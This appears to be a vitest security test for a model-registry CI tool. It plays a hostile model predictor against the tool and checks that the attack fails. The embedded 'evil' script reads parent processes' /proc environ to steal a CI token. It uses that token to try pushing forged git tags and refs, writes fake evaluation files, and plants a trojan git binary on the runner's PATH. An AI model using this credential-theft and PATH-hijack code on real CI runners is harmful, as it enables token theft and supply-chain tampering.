import {existsSync} from 'node:fs';
import {mkdir, readFile, writeFile} from 'node:fs/promises';
import {dirname, join} from 'node:path';
import {afterAll, beforeAll, expect, test} from 'vitest';
import type {Evaluation} from '../../src/generated/documents.ts';
import {startLocal, type Local} from '../../src/local/start-local.ts';
import {renderTemplates} from '../../src/templates/render-templates.ts';
import {testGit} from '../support/context.ts';
import {smallConfig, smallCsv} from '../support/small-repository.ts';
import {temporaryFolder} from '../support/temporary.ts';

/*
 * Who: the program that answers for a model of `format: command`. It knows nothing, and wants the gate to pass.
 * What it may reach: all that the machine of the job `predict` has: the environment of the process that started it (/proc) with its
 * token, the file of its rows, the runner's command files, the folder of the run.
 * What stops it: that token reads, the rows have no label, the champion answers on another machine, and `evaluate`, which has a
 * token that writes, runs no program but scores the two files by the digests that their jobs stated. What it answers for rows that it knows by heart, nothing stops. Played with the templates as `cairn init` writes
 * them, against a champion whose program is honest. What else it may hand over: test/verbs/predict.test.ts.
 */
const repository = 'octo/small';
const branch = 'main';

/** Writes a predictor, and reports nothing. */
function trainer(predictor: string): string {
  return `const fs = require('node:fs');
fs.mkdirSync(process.env.CAIRN_OUTPUT + '/model', {recursive: true});
fs.writeFileSync(process.env.CAIRN_OUTPUT + '/model/predict.cjs', ${JSON.stringify(predictor)});
`;
}

const common = `
const {execFileSync} = require('node:child_process');
const fs = require('node:fs');
const {join} = require('node:path');
const {env} = process;
const [header, ...rows] = fs.readFileSync(env.CAIRN_ROWS, 'utf8').trim().split('\\n');
const say = (who, what) => fs.appendFileSync(env.HOME + '/seen', who + ' in ' + env.GITHUB_JOB + ': ' + what + '\\n');
const answer = (values) => fs.writeFileSync(env.CAIRN_PREDICTIONS, ['prediction', ...values].join('\\n') + '\\n');
`;

const honest = `${common}
say('champion', 'ran');
answer(rows.map((row) => {
  const [amount, country] = row.split(',');
  return 1 / (1 + Math.exp(-(Number(amount) - 50) / 15 - (country === 'fr' ? 1.5 : 0)));
}));
`;

const evil = `${common}
say('challenger', 'ran');
answer(rows.map(() => 0.5));
if (env.GITHUB_JOB === 'predict' && rows.length > 32) {
  const mine = Object.keys(env).filter((name) => /TOKEN|KEY|SECRET|INPUT_|GITHUB_OUTPUT/.test(name));
  say('challenger', 'of its own environment ' + mine.length);
  say('challenger', 'columns ' + header);
  const stolen = {};
  for (let pid = process.ppid; pid > 1; ) {
    try {
      for (const pair of fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0')) {
        const [name, ...rest] = pair.split('=');
        stolen[name] ??= rest.join('=');
      }
      pid = Number(fs.readFileSync('/proc/' + pid + '/stat', 'utf8').split(') ')[1].split(' ')[1]);
    } catch { break; }
  }
  say('challenger', 'INPUT_TOKEN ' + (stolen.INPUT_TOKEN ? 'yes' : 'no'));
  say('challenger', 'CAIRN_SIGNING_KEY ' + (stolen.CAIRN_SIGNING_KEY ? 'yes' : 'no'));
  const top = stolen.GITHUB_WORKSPACE;
  const basic = Buffer.from('x-access-token:' + stolen.INPUT_TOKEN).toString('base64');
  const git = (...args) => execFileSync('git', ['-C', top, '-c', 'http.extraheader=AUTHORIZATION: basic ' + basic, ...args], {stdio: 'pipe'});
  git('ls-remote', 'origin');
  say('challenger', 'reads what the job may read');
  for (const ref of ['refs/tags/small@v9.9.9', 'refs/cairn/runs/small-000000000000', 'refs/heads/evil']) {
    try { git('push', 'origin', 'HEAD:' + ref); say('challenger', 'pushed ' + ref); }
    catch { say('challenger', 'refused ' + ref); }
  }
  // A false evaluation where one would lie, and a false git for the next step of the machine.
  const own = join(top, '.cairn', 'runs', stolen.INPUT_RUN);
  fs.mkdirSync(own, {recursive: true});
  fs.writeFileSync(join(own, 'evaluation.json'), '{"metrics": []}');
  for (const name of ['predictions.json', 'champion-predictions.json'])
    fs.writeFileSync(join(own, name), '{"document": "predictions"}');
  const bin = join(stolen.RUNNER_TEMP, 'bin');
  fs.mkdirSync(bin, {recursive: true});
  fs.writeFileSync(join(bin, 'git'), '#!/bin/sh\\necho ran >> "$HOME/false-git-ran"\\nPATH=$(echo "$PATH" | cut -d: -f2-) exec git "$@"\\n', {mode: 0o755});
  const files = join(stolen.RUNNER_TEMP, '_runner_file_commands');
  for (const name of fs.readdirSync(files)) if (name.startsWith('path_')) fs.appendFileSync(join(files, name), bin + '\\n');
  say('challenger', 'planted');
}
`;

function configOf(seed: number): string {
  return smallConfig
    .replace(
      /train: .*\n/,
      `train: {trainer: command, command: [node, train.cjs], model: model, format: command, predict: [node, predict.cjs], seed: ${seed}}\n`,
    )
    .replace('        target: here\n', '');
}

let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let local: Local;
let git: ReturnType<typeof testGit>;
let home: string;
let seen: readonly string[];

beforeAll(async () => {
  folder = await temporaryFolder();
  home = join(folder.path, 'home');
  await mkdir(home);
  local = await startLocal({
    directory: join(folder.path, 'forge'),
    repository,
    defaultBranch: branch,
    home,
  });
  const clone = join(folder.path, 'clone');
  git = testGit(clone, {server: local.forge.serverUrl, token: local.personToken('dana')});
  await mkdir(clone);
  await git.run(['init', '--quiet', '--initial-branch', branch]);
  await git.run(['remote', 'add', 'origin', `${local.forge.serverUrl}/${repository}`]);
  await push({
    ...Object.fromEntries(await renderTemplates({model: 'small', branch, pin: 'a'.repeat(40)})),
    'cairn.yaml': configOf(1),
    'train.cjs': trainer(honest),
    'data/2024-01.csv': smallCsv(600),
    '.gitignore': '.cairn/\n',
  });
  await rest('PUT', '/pulls/1/merge', {merge_method: 'merge'});
  await local.runner.idle();
  await git.run(['pull', '--quiet', 'origin', branch]);
  await push({'cairn.yaml': configOf(2), 'train.cjs': trainer(evil)});
  await git.run(['fetch', '--quiet', 'origin', '+refs/*:refs/seen/*']);
  seen = (await readFile(join(home, 'seen'), 'utf8')).trim().split('\n');
}, 240_000);

afterAll(async () => {
  await local[Symbol.asyncDispose]();
  await folder[Symbol.asyncDispose]();
});

/** Commits files, pushes them, and waits for what that starts. */
async function push(files: Record<string, string>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(git.directory, path)), {recursive: true});
    await writeFile(join(git.directory, path), text);
  }
  await git.run(['add', '--all']);
  await git.run(['commit', '--quiet', '-m', 'A model']);
  await git.run(['push', '--quiet', 'origin', `HEAD:refs/heads/${branch}`]);
  await local.runner.idle();
}

async function rest(method: string, path: string, body?: unknown): Promise<unknown> {
  const response = await fetch(`${local.forge.apiUrl}/repos/${repository}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${local.personToken('rae')}`,
      'content-type': 'application/json',
    },
    ...(body !== undefined && {body: JSON.stringify(body)}),
  });
  expect(response.ok, `${method} ${path}`).toBe(true);
  return response.json();
}

async function evaluationWith(version: string): Promise<Evaluation> {
  const manifest = JSON.parse(
    await git.run(['show', `refs/seen/tags/small@v${version}:registry/small/versions/${version}.json`]),
  ) as {run: {id: string}};
  return JSON.parse(
    await git.run(['show', `refs/seen/cairn/runs/${manifest.run.id}:evaluation.json`]),
  ) as Evaluation;
}

const rocAuc = ({metrics}: Pick<Evaluation, 'metrics'>): number | null | undefined =>
  metrics.find(({name}) => name === 'roc_auc')?.value;

test('an honest command becomes the champion by what it answered in the job predict', async () => {
  const evaluation = await evaluationWith('0.0.1');
  expect(evaluation.predictions).toMatchObject({of: ['challenger'], job: 'predict'});
  expect(rocAuc(evaluation)).toBeGreaterThan(0.8);
});

test('the gate judges what the challenger answered, beside what the champion did', async () => {
  const evaluation = await evaluationWith('0.0.2');
  expect(evaluation.predictions).toMatchObject({
    of: ['challenger', 'champion'],
    job: 'predict',
    champion: {job: 'predict-champion'},
  });
  expect(rocAuc(evaluation)).toBe(0.5);
  expect(evaluation.champion && rocAuc(evaluation.champion)).toBe(rocAuc(await evaluationWith('0.0.1')));
  const {statuses} = (await rest('GET', '/commits/cairn%2Fsmall%2Fproduction/status')) as {
    statuses: {context: string; state: string}[];
  };
  expect(statuses.map(({context, state}) => ({context, state}))).toEqual([
    {context: 'cairn/gate', state: 'failure'},
  ]);
});

test('no command runs beside a token that writes', () => {
  const jobs = new Set(seen.map((line) => line.slice(0, line.indexOf(':'))));
  expect([...jobs].sort()).toEqual([
    'challenger in predict',
    'challenger in train',
    'champion in predict',
    'champion in predict-champion',
    'champion in train',
  ]);
  // It was the challenger of the first training that answered there, on the machine of that run.
  const first = seen.indexOf('challenger in predict: ran');
  expect(seen.slice(first).filter((line) => line.startsWith('champion in predict:'))).toEqual([]);
});

test('nothing that the challenger found tells it a label or lets it write', async () => {
  const found = seen.filter((line) => line.startsWith('challenger in predict') && !line.endsWith(': ran'));
  expect(found.map((line) => line.replace('challenger in predict: ', ''))).toEqual([
    'of its own environment 0',
    'columns amount,country',
    'INPUT_TOKEN yes',
    'CAIRN_SIGNING_KEY no',
    'reads what the job may read',
    'refused refs/tags/small@v9.9.9',
    'refused refs/cairn/runs/small-000000000000',
    'refused refs/heads/evil',
    'planted',
  ]);
  const refs = await git.run(['for-each-ref', '--format=%(refname)', 'refs/seen']);
  expect(refs).not.toMatch(/9\.9\.9|evil|000000000000/);
  expect(existsSync(join(home, 'false-git-ran'))).toBe(false);
});
